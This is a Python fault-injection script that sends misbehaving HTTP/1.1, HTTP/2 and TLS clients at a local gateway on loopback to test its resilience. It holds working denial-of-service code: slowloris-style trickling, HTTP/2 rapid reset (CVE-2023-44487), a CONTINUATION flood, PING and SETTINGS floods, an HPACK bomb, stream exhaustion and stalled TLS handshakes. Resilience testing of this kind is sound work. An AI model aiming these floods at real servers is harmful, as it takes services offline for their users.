#!/usr/bin/env python3
"""Misbehaving HTTP clients for scripts/fault-report.sh, on raw loopback sockets (no netcat).

Each subcommand aims one fault at a gateway on 127.0.0.1:PORT and prints one summary line.
Only the Python standard library is used.
"""

import argparse
import collections
import re
import resource
import socket
import ssl
import struct
import time


def connect(port, timeout=2.0):
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    s.settimeout(timeout)
    return s


def status_line(s):
    """The status code of the response on s, or a word saying what happened instead."""
    try:
        data = s.recv(4096)
    except socket.timeout:
        return "no answer"
    except OSError as e:
        return type(e).__name__
    if not data:
        return "closed"
    parts = data.split(b"\r\n", 1)[0].split(b" ")
    return parts[1].decode() if len(parts) > 1 else repr(data[:20])


def malformed(args):
    counts = collections.Counter()
    for _ in range(args.n):
        s = connect(args.port)
        s.sendall(b"NOT HTTP\r\n\r\n")
        counts[status_line(s)] += 1
        s.close()
    print(f"{args.n} malformed request lines answered: {dict(counts)}")


def big_header(args):
    s = connect(args.port)
    s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\nX-Big: " + b"x" * args.bytes + b"\r\n\r\n")
    print(f"one {args.bytes}-byte header line answered: {status_line(s)}")


def slow(args, head_only):
    """N clients sending a byte every 100 ms: of the head (head_only) or of a body after a whole head."""
    socks = []
    for _ in range(args.n):
        s = connect(args.port)
        s.setblocking(False)
        if head_only:
            s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
        else:
            s.sendall(b"POST /echo HTTP/1.1\r\nHost: x\r\nContent-Length: 10000\r\n\r\n")
        socks.append(s)
    deadline = time.monotonic() + args.secs
    open_ = set(range(args.n))
    answers = collections.Counter()
    while time.monotonic() < deadline and open_:
        for i in list(open_):
            s = socks[i]
            try:
                data = s.recv(4096)
                if not data:
                    open_.discard(i)
                    continue
                answers[data.split(b"\r\n", 1)[0].decode(errors="replace")] += 1
            except BlockingIOError:
                pass
            except OSError:
                open_.discard(i)
                continue
            try:
                s.send(b"a")
            except OSError:
                open_.discard(i)
        time.sleep(0.1)
    for s in socks:
        s.close()
    what = "heads" if head_only else "bodies"
    print(f"{args.n} clients trickling {what}; still connected after {args.secs} s: {len(open_)}; answers: {dict(answers)}")


def framing(args):
    """Two requests on one keep-alive connection, read as a client reads them: each response's
    head, then as many body bytes as its content-length says."""
    s = connect(args.port, timeout=1.0)
    s.sendall(f"GET /header?name={args.name}&value={args.value} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
    time.sleep(0.2)
    s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
    data = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    except socket.timeout:
        pass
    seen = []
    for _ in range(2):
        head, sep, rest = data.partition(b"\r\n\r\n")
        m = re.match(rb"HTTP/1\.1 (\d{3}) ", head)
        if not sep or not m:
            seen.append(f"not a response: {data[:24]!r}")
            break
        length = re.search(rb"(?im)^content-length: *(\d+)", head)
        if not length:
            seen.append(f"{m.group(1).decode()} without a content-length")
            break
        n = int(length.group(1))
        if len(rest) < n:
            seen.append(f"{m.group(1).decode()} with {len(rest)} of {n} body bytes (the client waits)")
            break
        seen.append(m.group(1).decode())
        data = rest[n:]
    if data and all(x.isdigit() for x in seen) and len(seen) == 2:
        seen.append(f"{len(data)} stray bytes")
    print(f"guest set {args.name}: {args.value}; two requests on one connection, the client read: {seen}")


def read_back(args):
    s = connect(args.port)
    s.sendall(f"GET {args.target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
    data = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
    body = data.split(b"\r\n\r\n", 1)[1] if b"\r\n\r\n" in data else b""
    print(f"{args.target} answered {len(body)} body bytes")


def storm(args):
    """Opens N idle connections, prints the gateway's RSS before, with them and after they close."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    n = min(args.n, hard - 100)

    def rss():
        with open(f"/proc/{args.pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
        return 0

    before = rss()
    socks = [connect(args.port) for _ in range(n)]
    time.sleep(1)
    during = rss()
    for s in socks:
        s.close()
    time.sleep(2.5)
    print(f"{n} idle connections: RSS KiB {before} before, {during} with them ({(during - before) / n:.1f} each), {rss()} 2.5 s after they closed")


# --- HTTP/2 (RFC 9113) by hand: frames, and HPACK literals without indexing or Huffman -----------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
INITIAL_WINDOW_SIZE = 0x4
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 6: "FRAME_SIZE_ERROR",
          7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(**values):
    ids = {"initial_window_size": INITIAL_WINDOW_SIZE}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", ids[k], v) for k, v in values.items()))


def hpack_int(n, prefix, flags=0):
    top = (1 << prefix) - 1
    if n < top:
        return bytes([flags | n])
    out = [flags | top]
    n -= top
    while n >= 128:
        out.append(n % 128 + 128)
        n //= 128
    return bytes(out + [n])


def literal(name, value):
    """A header field as a literal without indexing, new name, no Huffman coding."""
    name, value = name.encode(), value.encode()
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def request_block(method, path, extra=()):
    fields = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "x"), *extra]
    return b"".join(literal(n, v) for n, v in fields)


class H2:
    """One HTTP/2 connection: the preface and SETTINGS sent, frames read as they come."""

    # Set from --tls: every HTTP/2 connection over TLS (ALPN h2, any certificate accepted).
    tls = False

    def __init__(self, port, **values):
        self.sock = connect(port, timeout=5.0)
        if H2.tls:
            ctx = ssl.create_default_context()
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            self.sock = ctx.wrap_socket(self.sock, server_hostname="localhost")
        self.buf = b""
        self.window = 65535  # what the server lets us send on the connection
        self.stream_initial = 65535  # ... and on a new stream (its SETTINGS may change it)
        self.stream_windows = {}
        self.closed = False
        self.seen = collections.Counter()
        self.goaway = None
        self.statuses = collections.Counter()
        self.sock.sendall(PREFACE + settings(**values))

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def read(self, secs):
        """Reads frames for up to secs (less if the server closes); returns True if it closed."""
        end = time.monotonic() + secs
        while not self.closed and time.monotonic() < end:
            self.sock.settimeout(max(0.01, end - time.monotonic()))
            try:
                chunk = self.sock.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError):
                break
            except OSError:
                self.closed = True
                break
            if not chunk:
                self.closed = True
                break
            self.buf += chunk
            self._frames()
        return self.closed

    def _frames(self):
        while len(self.buf) >= 9:
            n = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + n:
                return
            kind, flags, stream, payload = self.buf[3], self.buf[4], int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF, self.buf[9:9 + n]
            self.buf = self.buf[9 + n:]
            self.seen[kind] += 1
            if kind == GOAWAY and len(payload) >= 8:
                self.goaway = ERRORS.get(int.from_bytes(payload[4:8], "big"), str(int.from_bytes(payload[4:8], "big")))
            elif kind == WINDOW_UPDATE:
                grant = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
                if stream == 0:
                    self.window += grant
                else:
                    self.stream_windows[stream] = self.stream_windows.get(stream, self.stream_initial) + grant
            elif kind == SETTINGS and not flags & ACK:
                # The server's settings bind it only once acknowledged (its windows among them).
                self.send(frame(SETTINGS, ACK, 0))
                for at in range(0, len(payload) - 5, 6):
                    if int.from_bytes(payload[at:at + 2], "big") == INITIAL_WINDOW_SIZE:
                        self.stream_initial = int.from_bytes(payload[at + 2:at + 6], "big")
            elif kind == HEADERS:
                # :status 200 is static-table index 8 (0x88); any other status is a literal or a
                # dynamic-table reference, which would need the whole HPACK state to read.
                self.statuses["200" if payload[:1] == b"\x88" else "not 200"] += 1
            elif kind == RST_STREAM:
                self.statuses["RST " + ERRORS.get(int.from_bytes(payload[:4], "big"), "?")] += 1

    def post(self, stream, path, body):
        """A request with a body, sending DATA only as the server's connection window allows."""
        head = request_block("POST", path, [("content-length", str(len(body)))])
        if not self.send(frame(HEADERS, END_HEADERS, stream, head)):
            return False
        at = 0
        self.stream_windows.setdefault(stream, self.stream_initial)
        while at < len(body):
            deadline = time.monotonic() + 5
            while min(self.window, self.stream_windows[stream]) <= 0 and not self.closed:
                if time.monotonic() > deadline:
                    return False
                self.read(0.2)
            if self.closed:
                return False
            n = min(16384, self.window, self.stream_windows[stream], len(body) - at)
            last = at + n == len(body)
            if not self.send(frame(DATA, END_STREAM if last else 0, stream, body[at:at + n])):
                return False
            self.window -= n
            self.stream_windows[stream] -= n
            at += n
        return True

    def outcome(self):
        got = f"GOAWAY {self.goaway}" if self.goaway else "no GOAWAY"
        shut = "closed" if self.closed else "still open"
        return f"{got}, {shut}, answers {dict(self.statuses)}"


def h2_idle(args):
    """N connections that open HTTP/2 and send nothing more: how many the server closes, and when."""
    conns, started = [H2(args.port) for _ in range(args.n)], time.monotonic()
    closed_at = {}
    while time.monotonic() - started < args.secs and len(closed_at) < len(conns):
        for i, c in enumerate(conns):
            if i not in closed_at and c.read(0.01):
                closed_at[i] = time.monotonic() - started
    times = sorted(closed_at.values())
    when = f", the first after {times[0]:.1f} s, the last after {times[-1]:.1f} s" if times else ""
    goaways = sum(1 for c in conns if c.goaway)
    print(f"{args.n} idle HTTP/2 connections{' over TLS' if H2.tls else ''}: {len(times)} closed within {args.secs} s{when}, {goaways} with GOAWAY")


def h2_rapid_reset(args):
    """CVE-2023-44487: requests cancelled as soon as they are sent, as fast as the socket takes them."""
    c = H2(args.port)
    sent = 0
    for i in range(args.n):
        sid = 2 * i + 1
        if not c.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, request_block("GET", "/")) + frame(RST_STREAM, 0, sid, struct.pack(">I", 8))):
            break
        sent += 1
        if i % 100 == 0:
            c.read(0)
    c.read(1.0)
    print(f"rapid reset: {sent} of {args.n} requests sent and cancelled; {c.outcome()}")


def h2_continuation(args):
    """CVE-2024-27316 and kin: a header block that never ends, CONTINUATION after CONTINUATION."""
    c = H2(args.port)
    c.send(frame(HEADERS, 0, 1, request_block("GET", "/")))
    sent, block = 0, b"".join(literal(f"x-{i}", "y" * 100) for i in range(140))
    while sent < args.bytes and c.send(frame(CONTINUATION, 0, 1, block)):
        sent += len(block)
        c.read(0)
    c.read(1.0)
    print(f"CONTINUATION flood: {sent // 1024} KiB of headers sent without END_HEADERS; {c.outcome()}")


def h2_flood(args, kind):
    """PING or SETTINGS frames, each asking for an acknowledgement, never reading one."""
    c = H2(args.port)
    one = frame(PING, 0, 0, b"12345678") if kind == "ping" else settings(initial_window_size=65535)
    sent = 0
    for _ in range(args.n // 100):
        if not c.send(one * 100):
            break
        sent += 100
    c.read(1.0)
    print(f"{kind.upper()} flood: {sent} frames sent, no acknowledgement read; {c.outcome()}")


def h2_hpack_bomb(args):
    """One 4 KiB header put in the dynamic table, then referenced by index thousands of times."""
    c = H2(args.port)
    insert = b"\x40" + hpack_int(5, 7) + b"x-big" + hpack_int(4000, 7) + b"z" * 4000  # incremental indexing
    refs = hpack_int(62, 7, 0x80) * args.n  # the newest dynamic entry is index 62
    block = request_block("GET", "/") + insert + refs
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block[:16384]))
    for at in range(16384, len(block), 16384):
        c.send(frame(CONTINUATION, END_HEADERS if at + 16384 >= len(block) else 0, 1, block[at:at + 16384]))
    c.read(1.0)
    print(f"HPACK bomb: {len(block)} bytes that decode to {args.n * 4005 // 1024} KiB of headers; {c.outcome()}")


def h2_streams(args):
    """More concurrent streams than the server allows: requests whose bodies never come."""
    c = H2(args.port)
    for i in range(args.n):
        if not c.send(frame(HEADERS, END_HEADERS, 2 * i + 1, request_block("POST", "/echo", [("content-length", "10")]))):
            break
    c.read(1.5)
    print(f"{args.n} streams opened at once, none finished; {c.outcome()}")


def h2_zero_window(args):
    """Connections that let the server send no response data (stream windows 0, never opened)
    and ask for answers on many streams: what the server keeps for them, and for how long."""
    conns, body = [], b"w" * args.bytes
    for _ in range(args.c):
        c = H2(args.port, initial_window_size=0)
        c.read(0.1)
        for i in range(args.streams):
            if not c.post(2 * i + 1, "/echo", body):
                break
        conns.append(c)
    started = time.monotonic()
    while time.monotonic() - started < args.secs and not all(c.closed for c in conns):
        for c in conns:
            c.read(0.05)
    statuses = collections.Counter()
    for c in conns:
        statuses.update(c.statuses)
    closed = sum(c.closed for c in conns)
    print(f"{args.c} connections x {args.streams} streams asking {args.bytes // 1024} KiB each, no window opened: answers {dict(statuses)}; {closed} of {args.c} closed within {args.secs} s")


# --- TLS ------------------------------------------------------------------------------------------

def client_hello():
    """The bytes of a real ClientHello (offering h2), made with Python's ssl module in memory."""
    ctx = ssl.create_default_context()
    ctx.set_alpn_protocols(["h2", "http/1.1"])
    out = ssl.MemoryBIO()
    tls = ctx.wrap_bio(ssl.MemoryBIO(), out, server_hostname="localhost")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def tls_fault(args):
    """TLS handshakes that never finish: nothing sent, a ClientHello a byte every 100 ms, a
    ClientHello and then silence, or garbage where the ClientHello belongs."""
    hello = client_hello()
    payload = {"tls-idle": b"", "tls-slow": hello, "tls-unfinished": hello,
               "tls-garbage": bytes(range(256)) * 4}[args.fault]
    socks = [connect(args.port) for _ in range(args.n)]
    started = time.monotonic()
    if args.fault == "tls-slow":
        for b in payload:
            if time.monotonic() - started > args.secs:
                break
            for s in socks:
                try:
                    s.send(bytes([b]))
                except OSError:
                    pass
            time.sleep(0.1)
    else:
        for s in socks:
            s.sendall(payload)
    closed, answers = 0, collections.Counter()
    for s in socks:
        s.settimeout(max(0.01, args.secs - (time.monotonic() - started)))
        try:
            data = s.recv(65536)
            while data:
                answers["TLS alert" if data[:1] == b"\x15" else "TLS handshake" if data[:1] == b"\x16" else repr(data[:8])] += 1
                data = s.recv(65536)
            closed += 1
        except socket.timeout:
            pass
        except OSError:
            closed += 1
        s.close()
    print(f"{args.n} clients, {args.fault}: {closed} closed by the server within {args.secs} s; it sent {dict(answers)}")


def main():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--tls", action="store_true", help="the h2-* faults over TLS (ALPN h2, any certificate)")
    sub = p.add_subparsers(dest="fault", required=True)
    sub.add_parser("malformed").add_argument("-n", type=int, default=20)
    sub.add_parser("big-header").add_argument("--bytes", type=int, default=100_000)
    for name in ("slow-heads", "slow-bodies"):
        sp = sub.add_parser(name)
        sp.add_argument("-n", type=int, default=50)
        sp.add_argument("--secs", type=float, default=3)
    sp = sub.add_parser("framing")
    sp.add_argument("--name", required=True)
    sp.add_argument("--value", required=True)
    sub.add_parser("read-back").add_argument("--target", required=True)
    sp = sub.add_parser("storm")
    sp.add_argument("-n", type=int, default=10_000)
    sp.add_argument("--pid", type=int, required=True)
    sp = sub.add_parser("h2-idle")
    sp.add_argument("-n", type=int, default=100)
    sp.add_argument("--secs", type=float, default=15)
    for name, n in (("h2-rapid-reset", 20_000), ("h2-ping-flood", 100_000), ("h2-settings-flood", 100_000),
                    ("h2-hpack-bomb", 10_000), ("h2-streams", 1000)):
        sub.add_parser(name).add_argument("-n", type=int, default=n)
    sub.add_parser("h2-continuation").add_argument("--bytes", type=int, default=16 << 20)
    sp = sub.add_parser("h2-zero-window")
    sp.add_argument("-c", type=int, default=20)
    sp.add_argument("--streams", type=int, default=100)
    sp.add_argument("--bytes", type=int, default=256 << 10)
    sp.add_argument("--secs", type=float, default=15)
    for name in ("tls-idle", "tls-slow", "tls-unfinished", "tls-garbage"):
        sp = sub.add_parser(name)
        sp.add_argument("-n", type=int, default=50)
        sp.add_argument("--secs", type=float, default=15)
    args = p.parse_args()
    H2.tls = args.tls
    {
        "malformed": malformed,
        "big-header": big_header,
        "slow-heads": lambda a: slow(a, True),
        "slow-bodies": lambda a: slow(a, False),
        "framing": framing,
        "read-back": read_back,
        "storm": storm,
        "h2-idle": h2_idle,
        "h2-rapid-reset": h2_rapid_reset,
        "h2-continuation": h2_continuation,
        "h2-ping-flood": lambda a: h2_flood(a, "ping"),
        "h2-settings-flood": lambda a: h2_flood(a, "settings"),
        "h2-hpack-bomb": h2_hpack_bomb,
        "h2-streams": h2_streams,
        "h2-zero-window": h2_zero_window,
        "tls-idle": tls_fault,
        "tls-slow": tls_fault,
        "tls-unfinished": tls_fault,
        "tls-garbage": tls_fault,
    }[args.fault](args)


if __name__ == "__main__":
    main()
